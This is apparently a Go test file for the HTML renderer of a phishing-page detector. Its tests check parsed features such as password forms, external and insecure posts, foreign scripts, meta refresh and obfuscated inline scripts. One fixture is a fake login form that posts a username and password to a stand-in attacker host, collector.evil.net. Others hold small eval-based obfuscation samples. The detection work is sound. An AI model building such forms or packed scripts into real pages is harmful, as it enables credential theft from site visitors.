package evidence

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func renderPage(t *testing.T, page string, header http.Header) *RenderResult {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		for name, values := range header {
			for _, v := range values {
				w.Header().Add(name, v)
			}
		}
		w.Write([]byte(page))
	}))
	t.Cleanup(srv.Close)

	r := NewHTTPRenderer(nil, 0)
	res, err := r.Render(context.Background(), srv.URL, RenderOptions{})
	require.NoError(t, err)
	require.NotNil(t, res.HTML)
	return res
}

func TestRender_BasicPage(t *testing.T) {
	page := `<html><head><title>Welcome Bank</title></head>
<body><p>Log in to manage your account.</p></body></html>`

	res := renderPage(t, page, nil)

	assert.Equal(t, "Welcome Bank", res.HTML.Title)
	assert.Contains(t, res.HTML.Text, "Log in to manage your account.")
	assert.Nil(t, res.Screenshot, "the plain renderer never captures screenshots")
}

func TestRender_FormParsing(t *testing.T) {
	page := `<html><body>
<form action="https://collector.evil.net/steal" method="post">
  <input type="text" name="user">
  <input type="PASSWORD" name="pass">
</form>
<form action="/local" method="get">
  <input type="text" name="q">
</form>
</body></html>`

	res := renderPage(t, page, nil)
	require.Len(t, res.HTML.Forms, 2)

	phish := res.HTML.Forms[0]
	assert.Equal(t, "POST", phish.Method)
	assert.True(t, phish.HasPassword)
	assert.True(t, phish.ExternalPost)
	assert.Equal(t, "collector.evil.net", phish.ActionHost)

	local := res.HTML.Forms[1]
	assert.Equal(t, "GET", local.Method)
	assert.False(t, local.HasPassword)
	assert.False(t, local.ExternalPost)
}

func TestRender_InsecureFormPost(t *testing.T) {
	page := `<form action="http://plain.example.net/login" method="post">
<input type="password" name="p"></form>`

	res := renderPage(t, page, nil)
	require.Len(t, res.HTML.Forms, 1)
	assert.True(t, res.HTML.Forms[0].InsecurePost)
}

func TestRender_ForeignScriptsAndLinks(t *testing.T) {
	page := `<html><body>
<script src="https://cdn.other-domain.net/lib.js"></script>
<script src="/local.js"></script>
<a href="https://elsewhere.example.org/page">out</a>
<a href="/internal">in</a>
</body></html>`

	res := renderPage(t, page, nil)

	assert.Equal(t, []string{"cdn.other-domain.net"}, res.HTML.ScriptHosts)
	assert.Equal(t, 1, res.HTML.ExternalLinks)
}

func TestRender_MetaRefreshAndCookies(t *testing.T) {
	h := http.Header{}
	h.Add("Set-Cookie", "a=1")
	h.Add("Set-Cookie", "b=2")
	page := `<html><head><meta http-equiv="Refresh" content="0; url=https://next.example.net"></head></html>`

	res := renderPage(t, page, h)

	assert.True(t, res.HTML.MetaRefresh)
	assert.Equal(t, 2, res.HTML.Cookies)
}

func TestRender_ObfuscatedInlineScript(t *testing.T) {
	page := `<html><body><script>eval(atob("ZG9jdW1lbnQ="));</script></body></html>`
	res := renderPage(t, page, nil)
	assert.True(t, res.HTML.Obfuscated)
}

func TestRender_ScriptBodiesExcludedFromText(t *testing.T) {
	page := `<html><body><script>var secret = "invisible";</script><p>visible words</p></body></html>`
	res := renderPage(t, page, nil)
	assert.Contains(t, res.HTML.Text, "visible words")
	assert.NotContains(t, res.HTML.Text, "invisible")
}

func TestLooksObfuscated(t *testing.T) {
	assert.True(t, looksObfuscated(`eval(unescape("%64%6f"))`))
	assert.True(t, looksObfuscated("var p='"+strings.Repeat("A", 5000)+"';"))
	assert.False(t, looksObfuscated(`console.log("hello")`))
	assert.False(t, looksObfuscated(`eval(expr)`), "eval alone without decoding is not packing")
}
